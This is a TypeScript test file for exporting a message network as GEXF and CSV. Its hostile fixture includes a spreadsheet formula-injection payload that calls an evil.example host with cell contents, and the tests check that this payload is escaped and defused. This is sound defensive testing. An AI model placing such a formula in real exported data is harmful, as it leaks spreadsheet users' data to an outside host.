import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { Parser } from 'htmlparser2';

import type { AnalysisPerson } from '../../../src/analysis/analysis-item.js';
import {
  buildNetwork,
  csvEdgeRows,
  csvNodeRows,
  gexfChunks,
  toCsv,
  toGexf,
  type Network,
} from '../../../src/analysis/network.js';
import { item, post } from './pattern-items.js';

const person = (key: string, name: string | null, handles: string[] = []): AnalysisPerson => ({
  key,
  name,
  handles,
  addresses: [],
  names: name === null ? [] : [name],
});

const persons = [person('x:1', 'Ann', ['ann']), person('x:2', 'Bob', ['bob', 'bobby'])];

const items = [
  item('m1', '2020-01-01T10:00', 'x:1', ['x:2']),
  item('m2', '2020-01-01T10:01', 'x:1', ['x:2', 'x:3']),
  item('m3', '2020-01-01T11:00', 'x:2', ['x:1']),
  item('m4', null, 'x:2', ['x:1']), // undated still counts
  post('p1', '2020-01-02T09:00', 'x:2', { mentions: ['ann', 'ANN', 'nobody'] }), // one mention of Ann
  post('p2', '2020-01-02T09:05', 'x:2', { mentions: ['bob'] }), // self-mention: no edge
  item('p3', '2020-01-02T09:10', 'x:1', ['x:2'], { kind: 'post', visibility: 'public', mentions: ['bobby'] }), // public reply
  item('m5', '2020-01-02T09:20', 'x:3', ['x:3']), // note to self: no edge
  item('m6', '2020-01-02T09:30', null, ['x:1']), // no sender: received only
  item('m7', '2020-01-02T09:40', 'x:3', ['x:1'], { mentions: ['bob'] }), // private mention: no edge
];

void describe('Network - nodes and edges', () => {
  const net = buildNetwork(items, persons);

  void it('counts messages as directed edges, private and public apart, mentions separately', () => {
    assert.deepEqual(net.edges, [
      { source: 'x:1', target: 'x:2', weight: 3, private: 2, public: 1, mentions: 0 },
      { source: 'x:2', target: 'x:1', weight: 3, private: 2, public: 0, mentions: 1 },
      { source: 'x:1', target: 'x:3', weight: 1, private: 1, public: 0, mentions: 0 },
      { source: 'x:2', target: 'x:nobody', weight: 1, private: 0, public: 0, mentions: 1 },
      { source: 'x:3', target: 'x:1', weight: 1, private: 1, public: 0, mentions: 0 },
    ]);
  });

  void it('counts for each person what they sent and received', () => {
    assert.deepEqual(net.nodes, [
      // m1 m2 p3 sent; m3 m4 m6 m7 received; public: p3
      { id: 'x:1', label: 'Ann', messages: 7, sent: 3, received: 4, private: 6, public: 1, mentioned: 1 },
      // m3 m4 p1 p2 sent; m1 m2 p3 received
      { id: 'x:2', label: 'Bob', messages: 7, sent: 4, received: 3, private: 4, public: 3, mentioned: 0 },
      // m5 m7 sent; m2 received (m5 to self is not received)
      { id: 'x:3', label: 'x:3', messages: 3, sent: 2, received: 1, private: 3, public: 0, mentioned: 0 },
      {
        id: 'x:nobody',
        label: 'x:nobody',
        messages: 0,
        sent: 0,
        received: 0,
        private: 0,
        public: 0,
        mentioned: 1,
      },
    ]);
  });

  void it('gives a handle two persons share to the smallest key', () => {
    const shared = buildNetwork(
      [post('p', '2020-01-01T10:00', 'x:9', { mentions: ['twin'] })],
      [person('x:5', 'Later', ['twin']), person('x:4', 'Earlier', ['twin'])],
    );
    assert.deepEqual(
      shared.edges.map((e) => e.target),
      ['x:4'],
    );
  });

  void it('is empty for no items', () => {
    assert.deepEqual(buildNetwork([]), { nodes: [], edges: [] });
  });
});

/** Reads a GEXF back with an XML parser: nodes, edges and their attribute values. */
function readGexf(xml: string): {
  root: Record<string, string>;
  graph: Record<string, string>;
  nodes: Record<string, string>[];
  edges: Record<string, string>[];
  values: Record<string, string>[][];
  errors: number;
} {
  const out = {
    root: {} as Record<string, string>,
    graph: {} as Record<string, string>,
    nodes: [] as Record<string, string>[],
    edges: [] as Record<string, string>[],
    values: [] as Record<string, string>[][],
    errors: 0,
  };
  const parser = new Parser(
    {
      onopentag(name, attribs) {
        if (name === 'gexf') out.root = attribs;
        if (name === 'graph') out.graph = attribs;
        if (name === 'node') out.nodes.push(attribs);
        if (name === 'edge') out.edges.push(attribs);
        if (name === 'attvalues') out.values.push([]);
        if (name === 'attvalue') out.values[out.values.length - 1]?.push(attribs);
      },
      onerror() {
        out.errors++;
      },
    },
    { xmlMode: true, decodeEntities: true },
  );
  parser.write(xml);
  parser.end();
  return out;
}

const hostile: Network = {
  nodes: [
    {
      id: 'a&b<c>"d\'e',
      label: '=HYPERLINK("http://evil.example/?"&A1)',
      messages: 2,
      sent: 1,
      received: 1,
      private: 2,
      public: 0,
      mentioned: 0,
    },
    {
      id: 'ctl\u0001\u0008x',
      label: 'line\nbreak, "quoted"\ttab',
      messages: 1,
      sent: 0,
      received: 1,
      private: 1,
      public: 0,
      mentioned: 0,
    },
    { id: '@handle', label: '-2+3', messages: 1, sent: 1, received: 0, private: 0, public: 1, mentioned: 0 },
  ],
  edges: [
    { source: 'a&b<c>"d\'e', target: 'ctl\u0001\u0008x', weight: 1, private: 1, public: 0, mentions: 0 },
    { source: '@handle', target: 'a&b<c>"d\'e', weight: 2, private: 1, public: 0, mentions: 1 },
  ],
};

void describe('Network - GEXF', () => {
  void it('writes GEXF 1.3: a directed static graph with typed count attributes', () => {
    const xml = toGexf(buildNetwork(items, persons));
    assert.ok(xml.startsWith('<?xml version="1.0" encoding="UTF-8"?>\n<gexf xmlns="http://gexf.net/1.3"'));
    const g = readGexf(xml);
    assert.equal(g.errors, 0);
    assert.equal(g.root.version, '1.3');
    assert.deepEqual(g.graph, { mode: 'static', defaultedgetype: 'directed' });
    assert.deepEqual(
      g.nodes.map((n) => [n.id, n.label]),
      [
        ['x:1', 'Ann'],
        ['x:2', 'Bob'],
        ['x:3', 'x:3'],
        ['x:nobody', 'x:nobody'],
      ],
    );
    assert.deepEqual(g.edges[0], { id: '0', source: 'x:1', target: 'x:2', weight: '3' });
    assert.deepEqual(g.values[0], [
      { for: 'messages', value: '7' },
      { for: 'sent', value: '3' },
      { for: 'received', value: '4' },
      { for: 'private', value: '6' },
      { for: 'public', value: '1' },
      { for: 'mentioned', value: '1' },
    ]);
    assert.match(xml, /<attribute id="mentions" title="mentions" type="integer"\/>/);
  });

  void it('gives the same text in pieces, for writing a large graph out without one huge string', () => {
    const net = buildNetwork(items, persons);
    assert.equal([...gexfChunks(net)].join(''), toGexf(net));
    assert.equal([...gexfChunks(net)].length, 1 + net.nodes.length + 1 + net.edges.length + 1);
    assert.deepEqual(toCsv(net), {
      nodes: [...csvNodeRows(net)].join(''),
      edges: [...csvEdgeRows(net)].join(''),
    });
  });

  void it('escapes every data string and replaces what XML cannot hold', () => {
    const xml = toGexf(hostile);
    assert.doesNotMatch(xml, /[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
    const g = readGexf(xml);
    assert.equal(g.errors, 0);
    assert.deepEqual(
      g.nodes.map((n) => [n.id, n.label]),
      [
        ['a&b<c>"d\'e', '=HYPERLINK("http://evil.example/?"&A1)'],
        ['ctl\uFFFD\uFFFDx', 'line\nbreak, "quoted"\ttab'],
        ['@handle', '-2+3'],
      ],
    );
    assert.deepEqual(
      g.edges.map((e) => [e.source, e.target]),
      [
        ['a&b<c>"d\'e', 'ctl\uFFFD\uFFFDx'],
        ['@handle', 'a&b<c>"d\'e'],
      ],
    );
    // every element opened is closed: the tags balance
    assert.equal((xml.match(/<node /g) ?? []).length, (xml.match(/<\/node>/g) ?? []).length);
  });
});

/** RFC 4180 reader for the test: quoted fields, doubled quotes, CRLF records. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  assert.equal(field, '', 'the last record ends with CRLF');
  return rows;
}

void describe('Network - CSV', () => {
  void it('writes the two tables Gephi imports, CRLF-terminated', () => {
    const csv = toCsv(buildNetwork(items, persons));
    assert.ok(
      csv.nodes.startsWith(
        'Id,Label,messages,sent,received,private,public,mentioned\r\nx:1,Ann,7,3,4,6,1,1\r\n',
      ),
    );
    assert.deepEqual(readCsv(csv.edges)[1], ['x:1', 'x:2', 'Directed', '3', '2', '1', '0']);
    assert.equal(readCsv(csv.edges).length, 6);
  });

  void it('quotes by RFC 4180 and defuses formulas with a leading quote, the same way in both tables', () => {
    const csv = toCsv(hostile);
    assert.deepEqual(readCsv(csv.nodes).slice(1), [
      ['a&b<c>"d\'e', '\'=HYPERLINK("http://evil.example/?"&A1)', '2', '1', '1', '2', '0', '0'],
      ['ctl\u0001\u0008x', 'line\nbreak, "quoted"\ttab', '1', '0', '1', '1', '0', '0'],
      ["'@handle", "'-2+3", '1', '1', '0', '0', '1', '0'],
    ]);
    assert.deepEqual(readCsv(csv.edges).slice(1), [
      ['a&b<c>"d\'e', 'ctl\u0001\u0008x', 'Directed', '1', '1', '0', '0'],
      ["'@handle", 'a&b<c>"d\'e', 'Directed', '2', '1', '0', '1'],
    ]);
    assert.match(csv.nodes, /"line\nbreak, ""quoted""\ttab"/);
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const one = toCsv({
        nodes: [{ ...(hostile.nodes[0] as Network['nodes'][number]), id: `${start}x` }],
        edges: [],
      });
      assert.equal(readCsv(one.nodes)[1]?.[0], `'${start}x`);
    }
  });
});
